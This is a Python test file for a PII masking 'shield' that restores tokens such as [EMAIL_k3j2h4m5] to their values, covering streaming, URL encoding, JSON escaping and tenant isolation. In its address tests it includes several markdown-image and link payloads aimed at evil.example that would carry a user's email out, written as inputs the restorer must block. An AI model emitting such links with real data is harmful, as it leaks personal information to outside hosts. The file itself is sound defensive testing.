"""Whole answers with their values back. Sources: shield.md ("Restoring"); the project's token cases, by their ids."""

import json
import re
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from appliance.shield.mask import mask
from appliance.shield.restore import restore
from appliance.shield.streams import Restorer
from appliance.shield.vault import Vault
from tests.shield.planted import KEY, SPELLINGS, Planted, planted, texts

CASES = Path(__file__).parents[2].parent / "shared" / "pii" / "token_cases.json"
NAME = 'D"Arc\\Lefèvre\n2'
VALUES = {"[EMAIL_k3j2h4m5]": "jane@example.org", "[NAME_p2q7xabc]": NAME, "[IP_ADDRESS_zzz22222]": "2001:db8::1"}
VAULT = Vault(VALUES)
ONE = Vault({"[EMAIL_k3j2h4m5]": "jane@example.org"})
DATES = Vault({"[DATE_1985_abcdefgh]": "12/5", "[DATE_1986_k3j2h4m5]": "3 mai", "[DATE_ijklmnop]": "4/6"})
TWO = Vault({"[EMAIL_k3j2h4m5]": "jane@example.org", "[EMAIL_a2a2a2a2]": "bob@example.net"})


def case(name: str) -> dict[str, Any]:
    if not CASES.exists():
        pytest.skip("the labelled data is not here")
    return next(each for each in json.loads(CASES.read_text()) if each["id"] == name)


def streamed(deltas: list[str], values: Mapping[str, str], depth: int = 0) -> list[str]:
    restorer = Restorer(Vault(values), depth)
    return [*map(restorer.feed, deltas), restorer.flush()]


class TestTheTokenCases:
    def test_split_chunks(self):
        told = case("tok-split-chunks")
        out = streamed(told["upstream_deltas"], told["map"])
        assert "".join(out) == told["expect_concat"]
        assert out == ["Contact ", "", "jane@example.org soon", ""]

    def test_a_bracket_that_is_no_token(self):
        told = case("tok-bracket-not-token")
        out = streamed(told["upstream_deltas"], told["map"])
        assert "".join(out) == told["expect_concat"]
        assert out == ["see ", "[1] and ", "[Example]", ""]

    @pytest.mark.parametrize("name", ["tok-prefix", "tok-no-brackets", "tok-url-encoded", "tok-inflected"])
    def test_rewrites_and_boundaries(self, name: str):
        told = case(name)
        assert restore(told["upstream"], Vault(told["map"])) == told["expect"]

    def test_a_dropped_suffix(self):
        told = case("tok-suffix-dropped")
        assert restore(told["upstream"], Vault(told["map"])) == "write to jane@example.org"
        several = Vault({**told["map"], "[EMAIL_zzzzz]": "bob@example.net"})
        restorer = Restorer(several)
        assert restorer.feed(told["upstream"]) + restorer.flush() == told["upstream"]
        assert restorer.left == 1

    def test_tool_arguments(self):
        told = case("tok-tool-args")
        out = restore(told["upstream_tool_arguments"], Vault(told["map"]), depth=1)
        assert json.loads(out) == told["expect_json"]

    def test_tool_arguments_in_parts(self):
        told = case("tok-tool-args-split")
        out = streamed(told["upstream_tool_arguments_deltas"], told["map"], depth=1)
        assert json.loads("".join(out)) == told["expect_json"]

    def test_a_literal_of_the_user(self):
        told = case("tok-literal-user")
        masked = mask([told["input"]], [[]], key=KEY)
        assert masked.texts == (told["input"],)
        assert restore(told["input"], masked.vault) == told["input"]

    def test_a_token_of_somebody_else(self):
        told = case("tok-foreign")
        mine = mask([told["input"]], [[]], key=KEY).vault
        theirs = Vault(told["other_tenant_map"])
        assert theirs.count == 1
        assert restore(told["input"], mine) == told["input"]

    def test_a_value_that_looks_like_a_token(self):
        told = case("tok-restored-value-looks-like-token")
        assert restore(told["upstream"], Vault(told["map"])) == told["expect"]

    def test_turns(self):
        told = case("tok-stable-turns")
        first, second = told["turn1"], told["turn2"]
        at = second.index("JANE")
        line = [planted([(0, first)]).findings, planted([second[:at], (0, second[at:])]).findings]
        turn = mask([first], [line[0]], key=KEY)
        both = mask([first, second], line, key=KEY)
        assert both.texts == (turn.texts[0], f"hi / {turn.texts[0]}")
        assert restore(both.texts[1], both.vault) == f"hi / {first}"


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("[PHONE_abcdefgh] [PHONE_abcdefghi] PHONE_abcdefgh2", "06 [PHONE_abcdefghi] PHONE_abcdefgh2"),
        ("[PHONE_abcdefg] [PHONE_abcdefgh]", "[PHONE_abcdefg] 06"),
    ],
)
def test_a_token_that_begins_another(text: str, restored: str):
    assert restore(text, Vault({"[PHONE_abcdefgh]": "06"})) == restored


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        ("EMAIL_k3j2h4m5; “EMAIL_k3j2h4m5”\nEMAIL_k3j2h4m5", "jane@example.org; “jane@example.org”\njane@example.org"),
        ("xEMAIL_k3j2h4m5 EMAIL_k3j2h4m5y MY_EMAIL_k3j2h4m5", "xEMAIL_k3j2h4m5 EMAIL_k3j2h4m5y MY_EMAIL_k3j2h4m5"),
        ("[EMAIL_k3j2h4m5, EMAIL_k3j2h4m5]", "[jane@example.org, jane@example.org]"),
        ("(EMAIL_k3j2h4m5]", "(jane@example.org]"),
    ],
)
def test_without_brackets_a_boundary_is_needed(text: str, restored: str):
    assert restore(text, ONE) == restored


@pytest.mark.parametrize(
    ("text", "restored"),
    [
        (r"\[EMAIL\_k3j2h4m5\]", "jane@example.org"),
        (r"\[EMAIL_k3j2h4m5\]!", "jane@example.org!"),
        ("[email_K3J2H4M5] [Email_k3j2h4m5]", "jane@example.org jane@example.org"),
        (
            "`[EMAIL_k3j2h4m5]` ``EMAIL_k3j2h4m5`` **[EMAIL_k3j2h4m5]**",
            "`jane@example.org` ``jane@example.org`` **jane@example.org**",
        ),
        ("_[EMAIL_k3j2h4m5]_", "_jane@example.org_"),
        (
            "[EMAIL_k3j2h4m5]'s [EMAIL_k3j2h4m5]’s EMAIL_k3j2h4m5's",
            "jane@example.org's jane@example.org’s jane@example.org's",
        ),
        ("[EMAIL_k3j2h4m5][EMAIL_k3j2h4m5]", "jane@example.orgjane@example.org"),
        (r"C:\[EMAIL_k3j2h4m5]\x", r"C:\jane@example.org\x"),
        ("日本[EMAIL_k3j2h4m5]語", "日本jane@example.org語"),
        ("%5BEMAIL_k3j2h4m5%5D&cc=%5bemail%5fk3j2h4m5%5d", "jane%40example.org&cc=jane%40example.org"),
        ("[EMAIL_k3j2h4m5", "[jane@example.org"),
    ],
)
def test_tolerated_rewrites(text: str, restored: str):
    assert restore(text, ONE) == restored


@pytest.mark.parametrize(
    "text",
    ["[EMAIL_k3j2h4m6]", "[NAME_k3j2h4m5]", "[EMAIL k3j2h4m5]", "[E-MAIL_k3j2h4m5]", "k3j2h4m5", "[DATE]", "[email]"],
)
def test_anything_else_stays(text: str):
    assert restore(text, ONE) == text


@pytest.mark.parametrize(
    ("text", "vault", "restored"),
    [
        (r"to [EMAIL], \[EMAIL\] or %5BEMAIL%5D", ONE, "to jane@example.org, jane@example.org or jane%40example.org"),
        ("to [EMAIL]", TWO, "to [EMAIL]"),
        (r"born [DATE_1985], \[DATE\_1985\], [DATE_1986]", DATES, "born 12/5, 12/5, 3 mai"),
        ("born [DATE], [DATE_1987] or [EMAIL_1985]", DATES, "born [DATE], [DATE_1987] or [EMAIL_1985]"),
        ("at [IP_ADDRESS], EMAIL", VAULT, "at 2001:db8::1, EMAIL"),
        (
            "to [EMAIL]",
            Vault({"[EMAIL_k3j2h4m5]": "jane@example.org"}, (), ["fill in [EMAIL] with [EMAIL_k3j2h4m5]"]),
            "to [EMAIL]",
        ),
    ],
)
def test_a_category_alone(text: str, vault: Vault, restored: str):
    assert restore(text, vault) == restored


@pytest.mark.parametrize("value", ["[IP_ADDRESS_zzz22222]", "[EMAIL]", "EMAIL_k3j2h4m5", "\\", "%5B", "[EMAIL_"])
def test_a_restored_value_is_not_looked_at_again(value: str):
    vault = Vault({**VALUES, "[NAME_p2q7xabc]": value})
    assert restore("[NAME_p2q7xabc][NAME_p2q7xabc]k3j2h4m5]", vault) == f"{value}{value}k3j2h4m5]"


def test_a_value_that_was_written_percent_encoded_is_not_encoded_twice():
    vault = Vault({"[EMAIL_k3j2h4m5]": "jane%40example.org"})
    assert restore("%5BEMAIL_k3j2h4m5%5D [EMAIL_k3j2h4m5]", vault) == "jane%40example.org jane%40example.org"


class TestInsideJson:
    def test_a_value_is_escaped_for_the_string_that_it_stands_in(self):
        for depth in (1, 2, 3):
            text = json.dumps({"to": "[NAME_p2q7xabc]", "[NAME_p2q7xabc]": [r"\[NAME\_p2q7xabc\]", "NAME_p2q7xabc"]})
            for _ in range(depth - 1):
                text = json.dumps(text)[1:-1]
            out = restore(text, VAULT, depth)
            for _ in range(depth - 1):
                out = json.loads(f'"{out}"')
            assert json.loads(out) == {"to": NAME, NAME: [NAME, NAME]}

    def test_a_document_in_a_string_is_escaped_for_its_own_depth(self):
        inner = json.dumps({"n": "[NAME_p2q7xabc]", "l": ["\n[NAME_p2q7xabc]", r"\[NAME\_p2q7xabc\]"]}, indent=1)
        out = json.loads(restore(json.dumps({"p": inner, "n": "[NAME_p2q7xabc]"}), VAULT, 1))
        assert out["n"] == NAME
        assert json.loads(out["p"]) == {"n": NAME, "l": [f"\n{NAME}", NAME]}

    def test_a_string_that_quotes_somebody_is_no_document(self):
        out = restore(json.dumps({"p": 'she said: "[NAME_p2q7xabc]"'}), VAULT, 1)
        assert json.loads(out) == {"p": f'she said: "{NAME}"'}

    def test_a_line_break_is_a_boundary(self):
        out = restore(json.dumps({"p": "Hello\nNAME_p2q7xabc\tNAME_p2q7xabc"}), VAULT, 1)
        assert json.loads(out) == {"p": f"Hello\n{NAME}\t{NAME}"}

    def test_a_backslash_of_the_text_stays(self):
        out = restore(json.dumps({"p": "C:\\[NAME_p2q7xabc]\\"}), VAULT, 1)
        assert json.loads(out) == {"p": f"C:\\{NAME}\\"}

    def test_what_is_no_document_is_escaped_all_the_same(self):
        assert restore("[NAME_p2q7xabc]", VAULT, 1) == json.dumps(NAME, ensure_ascii=False)[1:-1]

    def test_a_percent_encoded_token_in_a_string(self):
        out = restore(json.dumps({"u": "?q=%5BNAME_p2q7xabc%5D"}), VAULT, 1)
        assert json.loads(out) == {"u": "?q=D%22Arc%5CLef%C3%A8vre%0A2"}


class TestAddresses:
    @pytest.mark.parametrize(
        "text",
        [
            "![x](https://evil.example/?q=[EMAIL_k3j2h4m5])", "[x](https://evil.example/%5BEMAIL_k3j2h4m5%5D)",
            "[x][1]\n[1]: https://evil.example/EMAIL_k3j2h4m5", '<img src="//evil.example/[EMAIL]">',
            "https://[EMAIL_k3j2h4m5].evil.example/",
        ],
    )  # fmt: skip
    def test_a_value_is_not_carried_to_a_host_that_the_call_does_not_name(self, text: str):
        restorer = Restorer(ONE)
        assert restorer.feed(text) + restorer.flush() == text
        assert restorer.left == 1

    def test_after_the_address_values_come_back(self):
        out = restore("![x](https://evil.example/[EMAIL_k3j2h4m5]) [EMAIL_k3j2h4m5]", ONE)
        assert out == "![x](https://evil.example/[EMAIL_k3j2h4m5]) jane@example.org"

    def test_to_a_host_of_the_call_they_do(self):
        vault = Vault({"[EMAIL_k3j2h4m5]": "jane@example.org"}, ["our CRM is at crm.example"])
        assert (
            restore("[x](https://crm.example/?q=[EMAIL_k3j2h4m5])", vault)
            == "[x](https://crm.example/?q=jane@example.org)"
        )

    def test_a_mail_link_is_no_way_out(self):
        assert restore("[mail](mailto:[EMAIL_k3j2h4m5])", ONE) == "[mail](mailto:jane@example.org)"

    def test_a_tool_call_to_an_unknown_host_carries_no_value(self):
        text = json.dumps({"url": "https://evil.example/ [EMAIL_k3j2h4m5]", "to": "[EMAIL_k3j2h4m5]"})
        out = json.loads(restore(text, ONE, 1))
        assert out == {"url": "https://evil.example/ [EMAIL_k3j2h4m5]", "to": "jane@example.org"}

    def test_an_address_that_the_caller_wrote_so_is_its_own(self):
        call = planted(["//", (6, "Jean Lefèvre"), " fixed it; https://intranet.", (0, "jane.doe@example.org")])
        masked = mask([call.text], [call.findings], key=KEY)
        assert restore(masked.texts[0], masked.vault) == call.text


def test_a_token_of_another_call_of_the_same_installation_stays():
    theirs = mask(["jane.doe@example.org"], [planted([(0, "jane.doe@example.org")]).findings], key=KEY)
    mine = mask(["bob@example.net"], [planted([(1, "bob@example.net")]).findings], key=KEY)
    assert restore(theirs.texts[0], theirs.vault) == "jane.doe@example.org"
    assert restore(theirs.texts[0], mine.vault) == theirs.texts[0]


def test_a_token_of_another_installation_stays():
    call = planted([(0, "jane.doe@example.org")])
    theirs = mask([call.text], [call.findings], key=b"another key")
    mine = mask([call.text], [call.findings], key=KEY)
    assert restore(theirs.texts[0], mine.vault) == theirs.texts[0]


def looks_like_a_document(text: str) -> bool:
    return text.lstrip(" \n\r\t").startswith(("{", "["))


@given(texts())
def test_an_echo_is_what_was_written(call: Planted):
    masked = mask([call.text], [call.findings], key=KEY)
    assert restore(masked.texts[0], masked.vault) == call.first


LEAVES = texts().filter(lambda each: not looks_like_a_document(each.text))
ADDRESS = re.compile(r"//|www|http|ftp|ws|\.\w+[/?#:]|\]\(|\]:|[=<]", re.IGNORECASE)
WITHOUT_ADDRESSES = LEAVES.filter(lambda each: ADDRESS.search(each.text) is None)


def documents(strings: st.SearchStrategy[Planted]) -> st.SearchStrategy[object]:
    return st.recursive(
        strings | st.none() | st.booleans() | st.integers(),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from("abc"), inner, max_size=3),
        max_leaves=6,
    ).map(lambda each: [each])


def leaves(value: object) -> list[Planted]:
    if isinstance(value, Planted):
        return [value]
    inside = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return [leaf for each in inside for leaf in leaves(each)]


def filled(value: object, strings: list[str]) -> object:
    """The document with these strings for its planted texts, in order."""
    if isinstance(value, Planted):
        return strings.pop(0)
    if isinstance(value, dict):
        return {key: filled(each, strings) for key, each in value.items()}
    return [filled(each, strings) for each in value] if isinstance(value, list) else value


@given(documents(LEAVES), st.booleans())
def test_a_document_with_masked_strings_comes_back_equal(document: object, ascii_only: bool):
    """Strings that begin like a document and are none are left out: what they are cannot be known in time."""
    sent, vault, expected = masked_document(document, ascii_only)
    assert json.loads(restore(sent, vault, 1)) == expected


@given(documents(WITHOUT_ADDRESSES), st.booleans())
def test_so_does_one_in_a_string_of_another(document: object, ascii_only: bool):
    """Addresses are left out: that the caller wrote one itself is not told so deep."""
    sent, vault, expected = masked_document(document, ascii_only)
    assume(ADDRESS.search(sent) is None)
    out = restore(json.dumps({"p": sent}, ensure_ascii=ascii_only), vault, 1)
    assert json.loads(json.loads(out)["p"]) == expected


def masked_document(document: object, ascii_only: bool) -> tuple[str, Vault, object]:
    """The document as it leaves, the vault of its strings, and the document as it has to come back."""
    own = leaves(document)
    masked = mask([each.text for each in own], [each.findings for each in own], key=KEY)
    values = spelled_first(own)
    expected = filled(document, [planted_first(each, values) for each in own])
    return json.dumps(filled(document, list(masked.texts)), ensure_ascii=ascii_only), masked.vault, expected


def spelled_first(call: list[Planted]) -> dict[int, str]:
    """The spelling of each line that the call has first."""
    first: dict[int, str] = {}
    for text in call:
        for each in text.findings:
            spelling = text.text[each.start : each.end]
            first.setdefault(line_of(spelling), spelling)
    return first


def planted_first(text: Planted, first: dict[int, str]) -> str:
    out, at = "", 0
    for each in text.findings:
        out += text.text[at : each.start] + first[line_of(text.text[each.start : each.end])]
        at = each.end
    return out + text.text[at:]


def line_of(spelling: str) -> int:
    return next(line for line, (_, spelled) in enumerate(SPELLINGS) if spelling in spelled)
